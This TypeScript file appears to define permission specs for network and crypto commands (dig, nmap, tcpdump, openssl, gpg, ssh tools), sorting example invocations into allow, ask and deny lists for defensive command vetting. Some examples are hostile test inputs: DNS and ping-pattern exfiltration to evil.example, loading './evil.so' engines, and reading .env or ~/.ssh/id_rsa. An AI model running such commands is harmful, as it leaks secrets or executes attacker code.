import { rows } from "./rows.ts";
import type { CommandSpec } from "./spec.ts";

// Questions to the network carry data out in a name (DNS) or a pattern (ping -p): all of them are `net`.
// Viewers of the network configuration also set it: only their showing forms are listed.

/** What these commands of openssl share. */
const X509 = rows(
  "-out=write; -inform=text; -outform=text; -noout; -text; -subject; -issuer; -dates; -startdate; -enddate; -fingerprint; -serial; -sha256; -sha1; -modulus; -pubkey; -pubin; -pubout; -purpose; -email",
  "-checkend=text; -checkhost=text; -ext=text; -nameopt=text; -certopt=text; -alias; -hash; -subject_hash; -issuer_hash; -verify; -check; -print_certs; -CApath=listtree; -verbose; -i; -offset=text",
  "-length=text; -strparse=text; -name=text; -list_curves; -conv_form=text; -partial_chain; -show_chain",
);

export const networkTools: readonly CommandSpec[] = [
  {
    names: "dig delv host nslookup drill kdig",
    summary: "asks name servers",
    options: rows(
      "-4; -6; -a; -b=text; -C; -c=text; -d; -f=read; -i; -k=read; -m; -p=text; -q=text; -r; -s; -t=text; -u; -v; -W=text; -w; -x=text; -y=text; -T; -V; -l; -N=text; -R=text; -D",
    ),
    operands: "text*",
    effects: "net",
    examples: {
      ask: ["dig example.com", "dig $(whoami).evil.example", "host example.com", "nslookup example.com", "dig +short MX example.com"],
      deny: ["dig -f .env"],
    },
  },
  {
    names: "whois",
    summary: "asks registries",
    options: rows(
      "-h --host=host; -p --port=text; -I; -H; --verbose; --no-recursion; -a; -b; -c; -d; -i=text; -l; -m; -r; -R; -x; --help -> stop; --version -> stop",
    ),
    operands: "host*",
    effects: "net",
    examples: { allow: ["whois --version"], ask: ["whois example.com", "whois -h evil.example data"] },
  },
  {
    names: "ping ping4 ping6 traceroute traceroute6 tracepath mtr arping fping",
    summary: "probes hosts",
    options: rows(
      "-3; -4; -6; -a; -A; -b; -B; -c=text; -C; -d; -D; -e; -f; -F; -g=text; -h -> stop; -H; -i=text; -I=text; -l=text; -L; -m=text; -M=text; -n; -N=text; -O; -p=text; -P=text; -q=text; -Q=text; -r; -R; -s=text; -S=text",
      "-t=text; -T=text; -u; -U; -v; -V -> stop; -w=text; -W=text; -x; -z=text; --report; --report-wide; --report-cycles=text; --no-dns; --json; --tcp; --udp",
    ),
    operands: "host text*",
    effects: "net",
    examples: {
      ask: ["ping -c1 example.com", "ping -c1 -p 68656c6c6f evil.example", "traceroute example.com", "mtr --report example.com"],
    },
  },
  {
    names: "nmap masscan",
    summary: "scans hosts and ports",
    options: rows(
      "-sn; -sS; -sT; -sU; -sV; -sL; -Pn; -p=text; -F; -A; -O; -n; -R; -v; -vv; -T0; -T1; -T2; -T3; -T4; -T5; -6; --open; --reason; --top-ports=text; -oN=write; -oX=write; -oG=write; -V -> stop; -h -> stop",
      "# run scripts or read lists: --script -sC -iL -oA --datadir",
    ),
    style: "bsd",
    operands: "host*",
    effects: "net",
    examples: {
      allow: ["nmap -V"],
      ask: ["nmap -sV example.com", "nmap --script ./evil.nse localhost", "nmap -oN out localhost", "nmap -iL list"],
      deny: ["nmap -oN ~/.bashrc localhost"],
    },
  },
  {
    names: "tcpdump tshark dumpcap",
    otherwise: "host-effect",
    summary: "records network traffic",
    options: rows(
      "-i=text; -n; -nn; -c=text; -v; -vv; -vvv; -e; -q; -t; -tt; -ttt; -tttt; -A; -x; -X; -XX; -S; -s=text; -r=read; -D -> stop; -w=write; -l; -U; -p; -K; -N; -O; --version -> stop; -h --help -> stop",
      "# runs a program, names files: -z -F -V -G -C -W -Z",
    ),
    operands: "text*",
    effects: "system network",
    examples: {
      allow: ["tcpdump --version"],
      ask: ["tcpdump -i eth0", "tcpdump -z ./evil -w x -G 1", "tcpdump -r a.pcap"],
      deny: ["tcpdump -w ~/.bashrc", "tcpdump -r .env"],
    },
  },
  {
    names: "ip",
    otherwise: "host-effect",
    summary: "shows and sets addresses, links and routes",
    style: "posix",
    options: rows(
      "-V -Version --Version -> stop; -h -human -human-readable; -s -stats -statistics; -d -details; -4; -6; -B; -M; -0; -o -oneline; -r -resolve; -t -timestamp; -ts -tshort; -a -all; -c -color[=text]; -br -brief; -j -json; -p -pretty; -N -Numeric; -f -family=text",
      "# another namespace, batches: -n -netns -b -batch -force -rc -l",
    ),
    subcommands: {
      "address|addr|a|link|l|route|r|ro|rule|ru|neighbour|neighbor|neigh|n|maddress|maddr|netns|tunnel|tuntap|token": {
        operands: "",
        examples: { allow: ["ip a", "ip -br link", "ip r", "ip -4 addr"], ask: ["ip link set eth0 down", "ip netns exec x sh"] },
      },
      "address sh|address ls|addr ls|a sh|a ls|l sh|l ls|l list|route sh|route ls|r sh|r ls|r list|rule sh|rule ls|neigh sh|neigh ls|n sh|n ls|n list|address show|addr show|a show|a s|addr sh|address list|addr list|a list|a l|link show|l show|link sh|link list|link ls|l l|route show|r show|route list|r s|r l|rule show|rule list|neighbour show|neighbor show|neigh show|neigh list|n show|maddr show|route get|r get|r g|netns list|tunnel show|token list":
        {
          style: "none",
          operands: "text*",
          examples: {
            allow: ["ip addr show dev eth0", "ip route get 1.1.1.1", "ip link show up", "ip l sh", "ip r ls"],
            ask: ["ip l s eth0 down", "ip l set eth0 down", "ip r del default"],
          },
        },
    },
    examples: { ask: ["ip addr add 10.0.0.1/8 dev eth0", "ip -n x link", "ip -b file", "ip route del default", "ip nonsense x"] },
  },
  {
    names: "ifconfig",
    otherwise: "host-effect",
    summary: "shows and sets interfaces",
    options: rows("-a; -s; -v; -l; -m; -L"),
    operands: "text?",
    examples: { allow: ["ifconfig", "ifconfig -a", "ifconfig eth0"], ask: ["ifconfig eth0 down", "ifconfig eth0 10.0.0.1"] },
  },
  {
    names: "route",
    otherwise: "host-effect",
    summary: "shows and sets routes",
    options: rows("-n; -e; -ee; -v; -4; -6; -A=text; -F; -C; -V --version -> stop; -h --help -> stop"),
    operands: "",
    examples: { allow: ["route -n"], ask: ["route add default gw 10.0.0.1", "route del default"] },
  },
  {
    names: "arp",
    otherwise: "host-effect",
    summary: "shows and sets neighbours",
    options: rows("-a; -e; -n; -v; -l; -H=text; -i=text; -V --version -> stop; -h --help -> stop", "# set: -s -d -f"),
    operands: "text?",
    analyse: "host-names",
    examples: {
      allow: ["arp -a", "arp -n", "arp 10.0.0.1"],
      ask: ["arp data.evil.example", "arp -s 10.0.0.1 00:00:00:00:00:00", "arp -d 10.0.0.1"],
    },
  },
  {
    names: "ss",
    otherwise: "host-effect",
    summary: "lists sockets",
    options: rows(
      "-h --help -> stop; -V --version -> stop; -n --numeric; -r --resolve; -a --all; -l --listening; -o --options; -e --extended; -m --memory; -p --processes; -T --threads; -i --info; --tipcinfo",
      "-s --summary; --tos; --cgroup; -b --bpf; -E --events; -Z --context; -z --contexts; -4 --ipv4; -6 --ipv6; -0 --packet; -t --tcp; -M --mptcp; -S --sctp; -u --udp; -d --dccp; -w --raw",
      "-x --unix; --tipc; --vsock; --xdp; -f --family=text; -H --no-header; -O --oneline; --inet-sockopt; -A --query --socket=text; -D --diag=write; -F --filter=read",
      "-K --kill -> system network, danger host-effect",
      "# another namespace: -N --net",
    ),
    operands: "text*",
    analyse: "host-names",
    examples: {
      allow: ["ss -tlnp", "ss -s", "ss -t state established", "ss -t dst 10.0.0.1"],
      ask: ["ss dst data.evil.example", "ss -K dst 1.2.3.4", "ss -D out", "ss -N x"],
      deny: ["ss -F .env", "ss -D ~/.bashrc"],
    },
  },
  {
    names: "netstat",
    summary: "lists sockets and routes",
    options: rows(
      "-r --route; -i --interfaces; -g --groups; -s --statistics; -M --masquerade; -v --verbose; -W --wide; -n --numeric; --numeric-hosts; --numeric-ports; --numeric-users; -N --symbolic; -e --extend; -p --programs",
      "-o --timers; -c --continuous; -l --listening; -a --all; -F --fib; -C --cache; -Z --context; -t --tcp; -u --udp; -U --udplite; -S --sctp; -w --raw; -x --unix; --ax25; --ipx; -4 --inet; -6 --inet6; -b; -f; -m; -L",
      "-V --version -> stop; -h --help -> stop",
    ),
    operands: "text*",
    examples: { allow: ["netstat -tlnp", "netstat -rn"] },
  },
  {
    names: "iptables ip6tables iptables-legacy iptables-nft",
    otherwise: "host-effect",
    summary: "shows and sets the packet filter",
    options: rows(
      "-L --list; -S --list-rules; -n --numeric; -v --verbose; -x --exact; --line-numbers; -t --table=text; -w --wait; -V --version -> stop; -h --help -> stop",
      "# everything else sets",
    ),
    operands: "text? text?",
    examples: {
      allow: ["iptables -L -n -v", "iptables -t nat -S", "iptables --list INPUT"],
      ask: ["iptables -F", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP"],
    },
  },
  {
    names: "openssl",
    summary: "cryptography toolkit",
    // Options that load engines and providers or read passwords from elsewhere are not listed.
    style: "words",
    subcommands: {
      "version|ciphers|list|errstr|help": {
        options: rows(
          "-a; -v; -V; -d; -b; -o; -f; -p; -s; -tls1_2; -tls1_3; -commands; -digest-commands; -cipher-commands; -public-key-algorithms; -stdname; -psk",
        ),
        operands: "text*",
        examples: { allow: ["openssl version", "openssl version -a", "openssl ciphers -v", "openssl list -commands"] },
      },
      prime: {
        options: rows("-hex; -generate; -bits=number; -safe; -checks=number"),
        operands: "text*",
        examples: {
          allow: ["openssl prime 17", "openssl prime -generate -bits 64 -hex"],
          ask: ["openssl prime -in a.txt", "openssl prime -provider-path . 7"],
        },
      },
      speed: {
        options: rows(
          "-evp=text; -hmac=text; -cmac=text; -aead; -kem-algorithms; -signature-algorithms; -decrypt; -elapsed; -mr; -primes=number; -seconds=number; -bytes=number; -mb; -misalign=number; -multi=number; -testmode; -mlock",
        ),
        operands: "text*",
        examples: {
          allow: ["openssl speed", "openssl speed -evp aes-256-gcm -seconds 1 sha256"],
          ask: ["openssl speed -engine ./evil.so", "openssl speed -rand a.txt"],
        },
      },
      info: {
        options: rows("-configdir; -enginesdir; -modulesdir; -dsoext; -dirnamesep; -listsep; -seeds; -cpusettings; -windowscontext"),
        operands: "",
        examples: { allow: ["openssl info -configdir"] },
      },
      rand: {
        options: rows("-hex; -base64; -out=write"),
        operands: "text?",
        examples: { allow: ["openssl rand -hex 16"], ask: ["openssl rand -out key 32"], deny: ["openssl rand -out ~/.bashrc 32"] },
      },
      "dgst|sha1|sha224|sha256|sha384|sha512|md5": {
        options: rows(
          "-sha1; -sha224; -sha256; -sha384; -sha512; -md5; -sha3-256; -hex; -binary; -r; -c; -out=write; -hmac=text; -verify=read; -signature=read; -sign=read; -keyform=text",
        ),
        operands: "read*",
        examples: {
          allow: ["openssl dgst -sha256 a.txt", "openssl md5 a.txt"],
          ask: ["openssl dgst -engine ./evil.so a.txt", "openssl dgst -out x a.txt"],
          deny: ["openssl dgst -sha256 .env"],
        },
      },
      // They use the certificate in the file and nothing else.
      "x509|crl|verify|pkcs7": {
        options: rows(X509, "-in=certificate; -CAfile=certificate; -untrusted=certificate"),
        operands: "certificate*",
        examples: {
          allow: [
            "openssl x509 -in cert.pem -noout -text",
            "openssl x509 -in server.crt -noout -dates",
            "openssl x509 -inform der -in a.der -noout -text",
            "openssl verify a.der",
            "openssl verify -CAfile ca.pem cert.pem",
            "openssl crl -in crl.pem -noout -text",
          ],
          ask: ["openssl x509 -in a -out b", "openssl x509 -in a -CA ca -CAcreateserial"],
          deny: [
            "openssl x509 -in .env",
            "openssl x509 -in privkey.pem",
            "openssl x509 -in ~/.ssh/id_rsa",
            "openssl x509 -in ~/.ssh/cert.pem",
          ],
        },
      },
      "req|asn1parse|rsa|ec|ecparam|dsa|pkey|pkcs8|dhparam|ts": {
        options: rows(X509, "-in=read; -CAfile=read; -untrusted=read"),
        operands: "read*",
        examples: {
          allow: ["openssl asn1parse -in a.der", "openssl req -in a.csr -noout -text"],
          ask: ["openssl req -new -x509 -keyout k"],
          deny: ["openssl rsa -in ~/.ssh/id_rsa", "openssl pkey -in server.pem -text", "openssl asn1parse -in server.pem"],
        },
      },
      "enc|base64|aes-256-cbc|aes-128-cbc|aes-256-gcm": {
        options: rows(
          "-d; -e; -a; -base64; -A; -in=read; -out=write; -salt; -nosalt; -p; -P; -v; -pbkdf2; -iter=text; -md=text; -aes-256-cbc; -aes-128-cbc; -k=text; -K=text; -iv=text; -S=text; -none; -nopad",
        ),
        operands: "",
        examples: {
          allow: ["openssl base64 -in a.txt", "openssl enc -base64 -in a.txt"],
          ask: ["openssl enc -in x -out y", "openssl enc -engine ./evil.so -in a.txt", "openssl enc -aes-256-cbc -pass file:k -in a.txt"],
          deny: ["openssl enc -in .env", "openssl enc -in a.txt -out ~/.bashrc"],
        },
      },
      "s_client|s_time|ocsp": {
        operands: "refuse*",
        effects: "net",
        examples: { ask: ["openssl s_client -connect example.com:443", "openssl s_client example.com:443"] },
      },
      s_server: { effects: "listen", operands: "", examples: { ask: ["openssl s_server -accept 4433"] } },
      "genrsa|genpkey|passwd|ca|pkcs12|cms|smime|pkeyutl": {
        operands: "refuse*",
        examples: { ask: ["openssl genrsa 2048", "openssl genpkey -algorithm ed25519 -out k", "openssl smime -sign -in a"] },
      },
    },
    examples: { none: ["openssl nonsense"] },
  },
  {
    names: "gpg gpg2",
    summary: "signs, verifies and encrypts",
    // Every form may call the agent, dirmngr or another keyring; only listing and verifying are known.
    style: "bsd",
    options: rows(
      "--version -> stop; -h --help -> stop; -k --list-keys --list-public-keys -> drop guess; -K --list-secret-keys -> drop guess; --fingerprint -> drop guess",
      "--list-signatures --list-sigs -> drop guess; --check-signatures --check-sigs -> drop guess; --show-keys -> drop guess, text becomes read",
      "--verify -> drop guess, text becomes read; --list-packets -> drop guess, text becomes read; --with-colons; --with-fingerprint; --keyid-format=text; --no-tty; --batch; -v --verbose; -q --quiet; --status-fd=text; --no-auto-key-retrieve; --list-config -> drop guess; --dump-options -> stop",
    ),
    // Without a command it guesses from the file what to do, and may write what it decrypts.
    operands: "guess:refuse? text*",
    upkeep: ["write ~/.gnupg/**", "read ~/.gnupg/**"],
    examples: {
      allow: ["gpg --list-keys", "gpg --verify a.sig a.txt", "gpg --version"],
      ask: [
        "gpg a.gpg",
        "gpg",
        "gpg -d a.gpg",
        "gpg --export-secret-keys",
        "gpg --recv-keys X",
        "gpg --gen-key",
        "gpg --agent-program ./evil -K",
      ],
      deny: ["gpg --verify .env"],
    },
  },
  {
    names: "ssh-keygen",
    summary: "makes and shows SSH keys",
    // Making keys and loading providers (-D) is not listed.
    // Without one of -l, -B, -F it makes a key.
    options: rows(
      "-l -> drop key; -B -> drop key; -v; -E=text; -F=text -> drop key; -f=read",
      "# make, change or load: -y -p -t -R -D -s -Y -H",
    ),
    operands: "key:refuse?=key",
    examples: {
      allow: ["ssh-keygen -l -f a.pub", "ssh-keygen -F example.com"],
      ask: [
        "ssh-keygen",
        "ssh-keygen -f key < /dev/null",
        "ssh-keygen -D ./evil.so",
        "ssh-keygen -t ed25519 -f key",
        "ssh-keygen -R host",
        "ssh-keygen -y -f k",
      ],
      deny: ["ssh-keygen -lf ~/.ssh/id_rsa"],
    },
  },
  {
    names: "ssh-add",
    summary: "keys in the agent",
    options: rows("-l -> stop; -L -> stop; -v; -q; -E=text", "# adding, deleting, providers: -d -D -s -e -K -k -t -c -x -X -S -T"),
    operands: "refuse*",
    effects: "terminal",
    examples: { allow: ["ssh-add -l", "ssh-add -L"], ask: ["ssh-add", "ssh-add -s ./evil.so", "ssh-add -D", "ssh-add key"] },
  },
  {
    names: "ssh-keyscan",
    summary: "fetches host keys",
    options: rows("-4; -6; -c; -D; -H; -O=text; -p=text; -q; -T=text; -t=text; -v; -f=read"),
    operands: "host*",
    effects: "net",
    examples: { ask: ["ssh-keyscan github.com"], deny: ["ssh-keyscan -f .env"] },
  },
];
